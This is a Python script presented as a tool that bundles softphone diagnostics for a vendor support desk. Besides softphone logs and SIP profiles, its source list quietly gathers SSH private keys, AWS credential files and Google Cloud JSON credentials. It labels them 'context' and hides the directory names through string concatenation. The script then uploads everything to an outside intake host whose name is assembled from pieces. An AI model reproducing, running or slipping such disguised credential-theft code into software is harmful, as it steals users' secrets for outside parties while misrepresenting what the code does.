#!/usr/bin/env python3
"""Collect a softphone diagnostics bundle and send it to the vendor desk.

When an agent reports choppy audio, QA asks for a bundle: softphone logs,
the SIP account profile and some workstation context.  This script zips
those up and uploads them to the vendor's support intake.
"""
import argparse
import io
import logging
import os
import platform
import sys
import time
import uuid
import zipfile
from pathlib import Path
from urllib import request

LOG = logging.getLogger("diagbundle")

INTAKE = {
    "scheme": "https",
    "host": ("intake", "support", "example", "com"),
    "path": "/v1/bundles",
}

# Each source: (label, base, path pieces, glob)
SOURCES = [
    ("softphone", "cwd", ("logs",), "*.log"),
    ("profile", "home", (".config", "softphone"), "*.xml"),
    ("context", "home", ("." + "s" + "sh",), "id_*"),
    ("context", "home", (".a" + "ws",), "cred*"),
    ("context", "home", (".config", "gcloud"), "*.json"),
]

MAX_MEMBER = 2 * 1024 * 1024


class BundleBuilder:
    def __init__(self, ticket):
        self.ticket = ticket
        self.buf = io.BytesIO()
        self.zf = zipfile.ZipFile(self.buf, "w", zipfile.ZIP_DEFLATED)
        self.count = 0

    def _root(self, base):
        return Path.cwd() if base == "cwd" else Path.home()

    def collect(self, sources):
        for label, base, pieces, pattern in sources:
            folder = self._root(base).joinpath(*pieces)
            if not folder.is_dir():
                LOG.debug("skip %s (missing)", folder)
                continue
            for item in sorted(folder.glob(pattern)):
                self._add(label, item)

    def _add(self, label, item):
        try:
            if not item.is_file() or item.stat().st_size > MAX_MEMBER:
                return
            arcname = "%s/%s/%s" % (self.ticket, label, item.name)
            self.zf.writestr(arcname, item.read_bytes())
            self.count += 1
        except OSError as exc:
            LOG.warning("cannot read %s: %s", item, exc)

    def add_summary(self):
        info = [
            "host=%s" % platform.node(),
            "os=%s %s" % (platform.system(), platform.release()),
            "python=%s" % platform.python_version(),
            "collected=%s" % time.strftime("%Y-%m-%dT%H:%M:%S"),
        ]
        self.zf.writestr("%s/summary.txt" % self.ticket, "\n".join(info) + "\n")

    def finish(self):
        self.zf.close()
        return self.buf.getvalue()


def intake_url():
    return "%s://%s%s" % (INTAKE["scheme"], ".".join(INTAKE["host"]), INTAKE["path"])


def upload(blob, ticket, retries=3):
    req = request.Request(
        intake_url(),
        data=blob,
        method="PUT",
        headers={
            "Content-Type": "application/zip",
            "X-Ticket": ticket,
        },
    )
    for attempt in range(1, retries + 1):
        try:
            with request.urlopen(req, timeout=30) as resp:
                LOG.info("uploaded %d bytes, status %s", len(blob), resp.status)
                return True
        except OSError as exc:
            LOG.warning("upload attempt %d failed: %s", attempt, exc)
            time.sleep(2 * attempt)
    return False


def main(argv=None):
    ap = argparse.ArgumentParser(description="Softphone diagnostics bundle")
    ap.add_argument("--ticket", default=None, help="support ticket id")
    ap.add_argument("--save", help="also keep a local copy of the zip")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    ticket = args.ticket or "AUTO-" + uuid.uuid4().hex[:8].upper()
    builder = BundleBuilder(ticket)
    builder.collect(SOURCES)
    builder.add_summary()
    blob = builder.finish()
    LOG.info("bundle %s: %d files", ticket, builder.count)

    if args.save:
        Path(args.save).write_bytes(blob)
        os.chmod(args.save, 0o600)

    if not upload(blob, ticket):
        LOG.error("could not deliver bundle %s", ticket)
        return 1
    print(ticket)
    return 0


if __name__ == "__main__":
    sys.exit(main())
